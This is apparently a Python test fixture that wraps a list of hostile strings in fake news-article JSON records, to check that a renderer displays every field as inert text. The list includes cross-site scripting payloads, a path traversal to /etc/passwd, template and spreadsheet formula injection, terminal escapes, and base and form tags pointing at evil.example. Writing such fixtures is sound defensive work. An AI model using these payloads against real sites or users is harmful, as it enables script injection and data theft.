"""Articles written to do harm: what is shown of them must be text, whatever field it stands in."""
import json

RAN = "globalThis.ran=1"  # what must never come true
HOSTILE = [
    f"<script>{RAN}</script>", f'"><img src=x onerror={RAN}>', f"javascript:{RAN}", f"' onmouseover='{RAN}' style='position:fixed", f"</title><script>{RAN}</script>",
    "../../etc/passwd", "\u202edesrever\u202c \u2066isolated", '"unbalanced NEAR/2 (a OR', "a* AND NOT col:x", "&lt;b&gt; &amp; <!-- --", "{{7*7}}${7*7}%s%n", "=1+1", "@SUM(A1)|cmd",
    "\x1b[31mred\x1b[0m\x07", "]]></style><style>*{display:none}", f"<svg/onload={RAN}>", f"data:text/html,<script>{RAN}</script>", f"https://news.example/\"onclick=\"{RAN}",
    "https://news.example@elsewhere.example/", "W" * 500, "a" + "\u0301\u0332" * 200, "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627", "\U0001f468\u200d\U0001f469\u200d\U0001f467 \ufeff\u200b",
    f"<a href=javascript:{RAN}>x</a><form action=//evil.example><input name=q>", "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
]


def article(word):
    return {"id": word, "url": word, "outlet": word, "published": word, "byline": word, "title": word,
            "text": f'{word} said on Monday that the gate would open. "{word}," Ann Poe told reporters.\n\n'
                    f'Ann Poe told {word} on Monday in {word}: "{word} is {word}." The gate would not open, {word} said.\n\n{word}'}


def lines():
    return "\n".join(json.dumps(article(word)) for word in HOSTILE)
